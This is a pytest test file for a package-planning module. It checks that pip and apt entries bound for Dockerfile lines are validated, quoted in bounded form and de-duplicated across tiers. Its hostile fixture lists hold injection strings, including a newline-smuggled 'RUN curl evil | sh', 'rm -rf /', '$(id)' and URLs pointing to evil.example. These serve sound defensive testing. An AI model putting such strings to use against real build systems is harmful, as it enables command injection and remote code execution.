"""Package tiers: validation of every user entry, tier layout and de-duplication."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from ds01.domain.packages import (
    DATA_SCIENCE_PACKAGES,
    EXCERPT_CHARS,
    JUPYTER_PACKAGES,
    SYSTEM_APT_PACKAGES,
    USE_CASE_PACKAGES,
    CustomTier,
    PackagePlan,
    TierName,
    UseCase,
    excerpt,
    parse_apt_specs,
    parse_pip_specs,
    parse_requirements,
    parse_use_case,
    plan_packages,
    split_package_list,
)
from ds01.errors import EXIT_BAD_INPUT, UsageError

HOSTILE_PIP = [
    "x\nRUN curl evil | sh",
    "x\rRUN curl evil",
    "pandas;rm -rf /",
    "pandas; python_version > '3'",
    "$(id)",
    "`id`",
    "pandas'",
    'pandas"',
    "pandas\\",
    "a|b",
    "a&&b",
    "a>b<c>",  # not PEP 508
    "pkg @ https://evil.example/x.whl",
    "pkg@file:///tmp/x.whl",
    "https://evil.example/x.whl",
    "-e .",
    "--index-url=http://evil.example",
    "-rrequirements.txt",
    "",
    "pandas >= 2",  # a --pip entry has no spaces
    "p\u0430ndas",  # Cyrillic 'a'
    "x" * 300,
    "pkg>=1.0+cu121",  # local version only with == / !=
]

HOSTILE_APT = [
    "x\nRUN curl evil | sh",
    "FFmpeg",
    "a",
    "pkg/bookworm",
    "pkg:amd64",
    "-y",
    "foo=$(id)",
    "foo=",
    "foo==1",
    "foo=bar baz",
    "foo;ls",
    "foo=1.0'",
]


def _plan_tiers(plan: PackagePlan) -> list[TierName]:
    return [t.name for t in plan.tiers]


# ----------------------------------------------------------------------------- entries


@pytest.mark.parametrize("entry", HOSTILE_PIP)
def test_hostile_pip_entries_are_refused_with_exit_2(entry: str) -> None:
    with pytest.raises(UsageError) as info:
        parse_pip_specs([entry])
    assert info.value.exit_code == EXIT_BAD_INPUT
    assert info.value.details["invalid"][0]["entry"].startswith("--pip ")


@pytest.mark.parametrize("entry", HOSTILE_APT)
def test_hostile_apt_entries_are_refused(entry: str) -> None:
    with pytest.raises(UsageError) as info:
        parse_apt_specs([entry])
    assert info.value.exit_code == EXIT_BAD_INPUT


def test_injection_attempt_is_named_with_its_reason() -> None:
    with pytest.raises(UsageError) as info:
        parse_pip_specs(["numpy", "x\nRUN curl evil | sh"])
    assert "'x\\nRUN curl evil | sh'" in info.value.message
    assert "'\\n'" in info.value.message and "'|'" in info.value.message
    assert len(info.value.details["invalid"]) == 1  # numpy was fine


def test_every_offender_is_listed_at_once() -> None:
    with pytest.raises(UsageError) as info:
        parse_pip_specs(["ok", "$(id)", "a|b", "pkg @ https://x/y"])
    entries = [d["entry"] for d in info.value.details["invalid"]]
    assert entries == ["--pip '$(id)'", "--pip 'a|b'", "--pip 'pkg @ https://x/y'"]
    assert "direct references" in info.value.details["invalid"][2]["reason"]


def test_specific_reasons() -> None:
    cases = {
        "-e .": "pip options",
        "pandas >= 2": "'pandas>=2'",
        "pkg; python_version<'3'": "environment markers",
    }
    for entry, reason in cases.items():
        with pytest.raises(UsageError) as info:
            parse_pip_specs([entry])
        assert reason in info.value.details["invalid"][0]["reason"]
    with pytest.raises(UsageError) as info:
        parse_apt_specs(["FFmpeg"])
    assert "'ffmpeg'" in info.value.details["invalid"][0]["reason"]


def test_valid_pip_entries_are_normalised() -> None:
    specs = parse_pip_specs(
        ["Scikit_Learn", "numpy>=1.26,<3", "transformers[torch,sentencepiece]", "torch==2.5.1"]
    )
    assert [s.name for s in specs] == ["scikit-learn", "numpy", "transformers", "torch"]
    assert [s.text for s in specs] == [
        "Scikit_Learn",
        "numpy<3,>=1.26",
        "transformers[sentencepiece,torch]",
        "torch==2.5.1",
    ]
    assert [s.pinned for s in specs] == [False, True, False, True]
    assert specs[2].extras == ("sentencepiece", "torch")


def test_valid_apt_entries() -> None:
    specs = parse_apt_specs(["ffmpeg", "libsndfile1", "g++", "python3.11", "foo=1:2.3~rc1-1"])
    assert [s.text for s in specs] == [
        "ffmpeg",
        "libsndfile1",
        "g++",
        "python3.11",
        "foo=1:2.3~rc1-1",
    ]
    assert specs[-1].name == "foo" and specs[-1].version == "1:2.3~rc1-1"


def test_split_package_list_splits_only_on_spaces_and_tabs() -> None:
    assert split_package_list("  pandas\tnumpy>=1  ") == ["pandas", "numpy>=1"]
    # A newline stays inside its entry, so validation sees (and refuses) it.
    assert split_package_list("x\nRUN curl evil | sh") == ["x\nRUN", "curl", "evil", "|", "sh"]
    with pytest.raises(
        UsageError,
        match=r"--pip 'x\\nRUN': it contains characters that can't go on a Dockerfile line",
    ):
        parse_pip_specs(split_package_list("x\nRUN curl evil | sh"))


_NAME = st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,15}[A-Za-z0-9])?", fullmatch=True)
_SPEC = st.sampled_from(["", ">=1.0", "==2.*", "<3,>=1", "~=1.4", "!=1.2", "==1.0+cu121"])
_EXTRAS = st.sampled_from(["", "[gpu]", "[a,b]"])


@given(name=_NAME, extras=_EXTRAS, spec=_SPEC)
def test_any_pep508_requirement_in_the_safe_alphabet_is_accepted(
    name: str, extras: str, spec: str
) -> None:
    (parsed,) = parse_pip_specs([f"{name}{extras}{spec}"])
    assert parsed.name == canonicalize_name(name)
    assert Requirement(parsed.text).name == name
    assert not set(parsed.text) & set("'\"$`\\;|& \n")


@given(
    text=st.text(min_size=1, max_size=30),
    bad=st.sampled_from([*"\n\r'\"$`\\;|&@ \t", "://"]),
    at=st.integers(min_value=0, max_value=30),
)
def test_any_entry_with_a_dangerous_character_is_refused(text: str, bad: str, at: int) -> None:
    entry = text[:at] + bad + text[at:]
    with pytest.raises(
        UsageError,
        match=r"^Some pip packages can't be used; nothing was written or built:\n  --pip ",
    ):
        parse_pip_specs([entry])
    with pytest.raises(
        UsageError,
        match=(
            r"^Some apt packages can't be used; nothing was written or built:\n  --apt .*not "
            r"a Debian package name"
        ),
    ):
        parse_apt_specs([entry])


# ------------------------------------------------------------------ what refusals show


def _quoted_inner(shown: str) -> str:
    """An excerpt without its quotes and its ellipsis: the characters it shows."""
    assert shown[0] == shown[-1] and shown[0] in "'\""
    return shown[1:-1].removesuffix("…")


def test_excerpt_quotes_escapes_and_cuts() -> None:
    assert excerpt("pandas") == "'pandas'"
    assert excerpt("pandas'") == '"pandas\'"'  # quoted as repr quotes it
    assert excerpt("x\nRUN") == "'x\\nRUN'"  # the newline escaped, not sent raw
    assert excerpt("a" * 41) == "'" + "a" * EXCERPT_CHARS + "…'"
    assert excerpt("a" * 40) == "'" + "a" * 40 + "'"  # exactly the limit: not cut
    # An escape counts for the characters it shows.
    assert excerpt("\x1b" * 20) == "'" + "\\x1b" * 10 + "…'"
    assert excerpt("abc", 2) == "'ab…'"


@given(text=st.text(max_size=200))
def test_an_excerpt_is_short_printable_and_a_prefix_of_the_entry(text: str) -> None:
    shown = excerpt(text)
    inner = _quoted_inner(shown)
    assert len(inner) <= EXCERPT_CHARS
    assert shown.isprintable()
    cut = shown.endswith("…" + shown[-1])
    assert text.startswith(ast.literal_eval(shown[:-2] + shown[-1] if cut else shown))


def test_a_long_entry_is_shown_as_an_excerpt_only() -> None:
    entry = "a" * 60 + " SECRET"
    with pytest.raises(UsageError) as info:
        parse_pip_specs([entry])
    item = info.value.details["invalid"][0]
    assert item["entry"] == f"--pip '{'a' * EXCERPT_CHARS}…'"
    # The reason still says how to fix it, quoting no more of the entry than an excerpt.
    assert item["reason"] == f"it contains spaces; write it without them, e.g. '{'a' * 40}…'"
    assert "SECRET" not in info.value.message and "SECRET" not in str(info.value.details)
    assert info.value.exit_code == EXIT_BAD_INPUT


def test_reasons_say_why_in_bounded_length() -> None:
    many_bad = "\"#$%&'/?\\^`{|}" + "x" * 150  # 14 characters refused, none of @ ; :
    entries = [many_bad, "p" * 300, "ok-pkg spaced" + " more" * 30]
    with pytest.raises(UsageError) as info:
        parse_pip_specs(entries)
    reasons = [d["reason"] for d in info.value.details["invalid"]]
    assert all(len(r) <= 160 for r in reasons)
    assert "can't go on a Dockerfile line" in reasons[0] and reasons[0].endswith(" 6 more")
    assert "longer than 200 characters" in reasons[1]
    assert "without them, e.g. 'ok-pkgspacedmoremore" in reasons[2] and "…" in reasons[2]
    assert "p" * (EXCERPT_CHARS + 1) not in info.value.message


def test_a_refusal_lists_at_most_20_offenders_and_counts_them_all() -> None:
    with pytest.raises(UsageError) as info:
        parse_apt_specs([f"Bad{i}" for i in range(30)])
    details = info.value.details
    assert len(details["invalid"]) == 20 and details["invalid_total"] == 30
    assert details["invalid"][0] == {
        "entry": "--apt 'Bad0'",
        "reason": "Debian package names are lower case: 'bad0'",
    }
    assert info.value.message.endswith("  ... and 10 more")
    assert info.value.message.count("--apt 'Bad") == 20


def test_custom_tier_remove_lists_a_bounded_number_of_short_names() -> None:
    with pytest.raises(UsageError) as info:
        CustomTier().removed(["z" * 100, *(f"pkg{i}" for i in range(25))])
    message = info.value.message
    assert f"'{'z' * EXCERPT_CHARS}…'" in message and "z" * (EXCERPT_CHARS + 1) not in message
    assert "'pkg18'" in message and "'pkg19'" not in message
    assert message.endswith(" and 6 more")


# ----------------------------------------------------------------------- requirements


def test_requirements_comments_blank_lines_and_spaced_operators() -> None:
    text = "\ufeff# my project\n\npandas >= 2  # data\n  torch==2.5.1\nscikit-learn\n"
    specs = parse_requirements(text)
    assert [s.text for s in specs] == ["pandas>=2", "torch==2.5.1", "scikit-learn"]


def test_requirements_option_and_bad_lines_are_refused_with_line_numbers() -> None:
    text = "\n".join(
        [
            "pandas",
            "-r other.txt",
            "-e .",
            "--index-url https://mirror/simple",
            "numpy==1.26 \\",
            "    --hash=sha256:abc",
            "mypkg @ file:///home/conda/feedstock/mypkg",
            "x; python_version<'3.12'",
            "ok-package",
            "$(curl evil)",
        ]
    )
    with pytest.raises(UsageError) as info:
        parse_requirements(text, filename="reqs.txt")
    invalid = info.value.details["invalid"]
    lines = [d["entry"].split()[0] for d in invalid]
    assert lines == [f"reqs.txt:{n}" for n in (2, 3, 4, 5, 6, 7, 8, 10)]
    reasons = " ".join(d["reason"] for d in invalid)
    for needle in ("nested requirement", "editable", "build.pip_index_url", "continuations"):
        assert needle in reasons
    assert "pip list --format=freeze" in invalid[5]["reason"]
    assert info.value.exit_code == EXIT_BAD_INPUT


def test_a_requirements_line_is_named_by_its_number_and_an_excerpt() -> None:
    text = "numpy\n   " + "b" * 50 + " TAIL\n\x1b]0;title\x07x y\n"
    with pytest.raises(UsageError) as info:
        parse_requirements(text, filename="my\nreqs.txt")
    entries = [d["entry"] for d in info.value.details["invalid"]]
    assert entries == [
        f"my\\nreqs.txt:2 '{'b' * EXCERPT_CHARS}…'",  # stripped, then cut
        "my\\nreqs.txt:3 '\\x1b]0;title\\x07x y'",  # escaped: nothing reaches the terminal
    ]
    assert info.value.message.startswith("my\\nreqs.txt has lines DS01 can't use")
    assert all(line.isprintable() for line in info.value.message.split("\n"))
    assert "TAIL" not in info.value.message


@given(text=st.text(min_size=1, max_size=400))
def test_any_refused_requirements_file_gives_a_bounded_printable_error(text: str) -> None:
    try:
        parse_requirements(text, filename="r.txt")
    except UsageError as exc:
        assert exc.exit_code == EXIT_BAD_INPUT
        invalid = exc.details["invalid"]
        assert 1 <= len(invalid) <= 20 and exc.details["invalid_total"] >= len(invalid)
        for item in invalid:
            number, shown = item["entry"].removeprefix("r.txt:").split(" ", 1)
            assert number.isdigit()
            assert len(_quoted_inner(shown)) <= EXCERPT_CHARS
            assert len(item["reason"]) <= 160
        assert all(line.isprintable() for line in exc.message.split("\n"))


def test_requirements_replace_tiers_2_and_3() -> None:
    plan = plan_packages(requirements="pandas==2.2.0\nrich\n", pip=["rich", "tqdm"])
    assert _plan_tiers(plan) == [TierName.SYSTEM, TierName.REQUIREMENTS, TierName.CUSTOM]
    req = plan.tier(TierName.REQUIREMENTS)
    assert req is not None and [s.text for s in req.pip] == ["pandas==2.2.0", "rich"]
    assert [s.text for s in plan.custom.pip] == ["tqdm"]  # rich is a duplicate
    assert plan.tier_labels() == ("framework", "system", "requirements", "custom")


def test_requirements_and_a_use_case_contradict() -> None:
    with pytest.raises(UsageError) as info:
        plan_packages(requirements="pandas\n", use_case=UseCase.CV)
    assert info.value.code == "conflicting_flags"


def test_plan_reports_problems_of_every_source_together() -> None:
    with pytest.raises(UsageError) as info:
        plan_packages(pip=["$(id)"], apt=["Bad"], requirements="ok\n-e .\n")
    entries = [d["entry"] for d in info.value.details["invalid"]]
    assert entries == ["--pip '$(id)'", "--apt 'Bad'", "requirements.txt:2 '-e .'"]


# ------------------------------------------------------------------------------ tiers


def test_default_plan() -> None:
    plan = plan_packages()
    assert _plan_tiers(plan) == [
        TierName.SYSTEM,
        TierName.BASE,
        TierName.USE_CASE,
        TierName.CUSTOM,
    ]
    base = plan.tier(TierName.BASE)
    assert base is not None
    assert [s.text for s in base.pip] == [*JUPYTER_PACKAGES, *DATA_SCIENCE_PACKAGES]
    system = plan.tier(TierName.SYSTEM)
    assert system is not None and [a.name for a in system.apt] == list(SYSTEM_APT_PACKAGES)
    assert "sudo" in SYSTEM_APT_PACKAGES
    assert plan.custom.empty
    assert plan.tier_labels() == ("framework", "system", "jupyter", "datascience")


def test_base_tier_parts_are_skippable() -> None:
    plan = plan_packages(jupyter=False, use_case=UseCase.NLP)
    base = plan.tier(TierName.BASE)
    assert base is not None and [s.text for s in base.pip] == list(DATA_SCIENCE_PACKAGES)
    assert plan.tier_labels() == ("framework", "system", "datascience", "nlp")
    bare = plan_packages(jupyter=False, datascience=False, system_tools=False)
    assert bare.tier_labels() == ("framework",)


@pytest.mark.parametrize("use_case", list(UseCase))
def test_every_use_case_set_is_valid_and_current(use_case: UseCase) -> None:
    plan = plan_packages(use_case=use_case, jupyter=False, datascience=False)
    tier = plan.tier(TierName.USE_CASE)
    assert tier is not None
    assert [s.text for s in tier.pip] == list(USE_CASE_PACKAGES[use_case])
    assert (use_case.value in plan.tier_labels()) == (use_case is not UseCase.NONE)


def test_use_case_sets_follow_the_2026_review() -> None:
    everything = {name for names in USE_CASE_PACKAGES.values() for name in names}
    assert "opencv-python-headless" in USE_CASE_PACKAGES[UseCase.CV]
    # Pins torch (vllm), AGPL + GUI opencv (ultralytics), unmaintained (albumentations),
    # maintenance-only (prophet): all one --pip away, none in a default set.
    assert not everything & {"vllm", "ultralytics", "albumentations", "prophet", "opencv-python"}


def test_parse_use_case() -> None:
    assert parse_use_case(" CV ") is UseCase.CV
    with pytest.raises(UsageError) as info:
        parse_use_case("vision")
    assert "ml, cv, nlp" in (info.value.hint or "")


# ---------------------------------------------------------------------- duplicates


def test_duplicates_across_tiers_are_removed_by_normalised_name() -> None:
    plan = plan_packages(
        use_case=UseCase.ML,
        pip=["Pandas", "scikit_learn", "XGBoost", "rich"],
        apt=["git", "ffmpeg"],
    )
    assert [s.text for s in plan.custom.pip] == ["rich"]
    assert [a.text for a in plan.custom.apt] == ["ffmpeg"]
    dropped = {(d.entry, d.tier, d.kept_in) for d in plan.duplicates}
    assert dropped == {
        ("Pandas", TierName.CUSTOM, TierName.BASE),
        ("scikit_learn", TierName.CUSTOM, TierName.BASE),
        ("XGBoost", TierName.CUSTOM, TierName.USE_CASE),
        ("git", TierName.CUSTOM, TierName.SYSTEM),
    }


def test_a_later_tier_asking_for_more_overrides_without_touching_earlier_tiers() -> None:
    plan = plan_packages(pip=["pandas==2.2.0", "seaborn[stats]"], apt=["git=1:2.39.5-0+deb12u1"])
    base = plan.tier(TierName.BASE)
    assert base is not None and "pandas" in [s.text for s in base.pip]  # unchanged
    assert [s.text for s in plan.custom.pip] == ["pandas==2.2.0", "seaborn[stats]"]
    assert [a.text for a in plan.custom.apt] == ["git=1:2.39.5-0+deb12u1"]
    assert {(o.entry, o.earlier) for o in plan.overrides} == {
        ("pandas==2.2.0", TierName.BASE),
        ("seaborn[stats]", TierName.BASE),
        ("git=1:2.39.5-0+deb12u1", TierName.SYSTEM),
    }
    assert not plan.duplicates


def test_conflicting_versions_in_one_tier_are_refused() -> None:
    with pytest.raises(UsageError) as info:
        plan_packages(pip=["rich==12.0", "rich==13.0"])
    assert "rich==12.0 and rich==13.0" in info.value.message


def test_identical_or_unpinned_repeat_in_one_tier_is_a_duplicate() -> None:
    plan = plan_packages(pip=["rich==13.0", "Rich==13.0", "rich"], system_tools=False)
    assert [s.text for s in plan.custom.pip] == ["rich==13.0"]
    assert len(plan.duplicates) == 2


# --------------------------------------------------------------------- custom tier


def test_custom_tier_add_replaces_in_place_and_appends() -> None:
    tier = CustomTier(pip=parse_pip_specs(["rich", "tqdm"]), apt=parse_apt_specs(["ffmpeg"]))
    added = tier.added(pip=["Rich==13.0", "httpx"], apt=["sox"])
    assert [s.text for s in added.pip] == ["Rich==13.0", "tqdm", "httpx"]
    assert [a.text for a in added.apt] == ["ffmpeg", "sox"]
    with pytest.raises(
        UsageError,
        match=(
            r"--add-pip 'x\\nRUN evil': it contains characters that can't go on a Dockerfile "
            r"line"
        ),
    ):
        tier.added(pip=["x\nRUN evil"])


def test_custom_tier_remove() -> None:
    tier = CustomTier(pip=parse_pip_specs(["Rich", "tqdm"]), apt=parse_apt_specs(["ffmpeg"]))
    removed = tier.removed(["rich", "ffmpeg"])
    assert [s.text for s in removed.pip] == ["tqdm"]
    assert removed.apt == ()
    with pytest.raises(UsageError) as info:
        tier.removed(["pandas"])
    assert info.value.code == "not_in_custom_tier"
    assert "'pandas'" in info.value.message
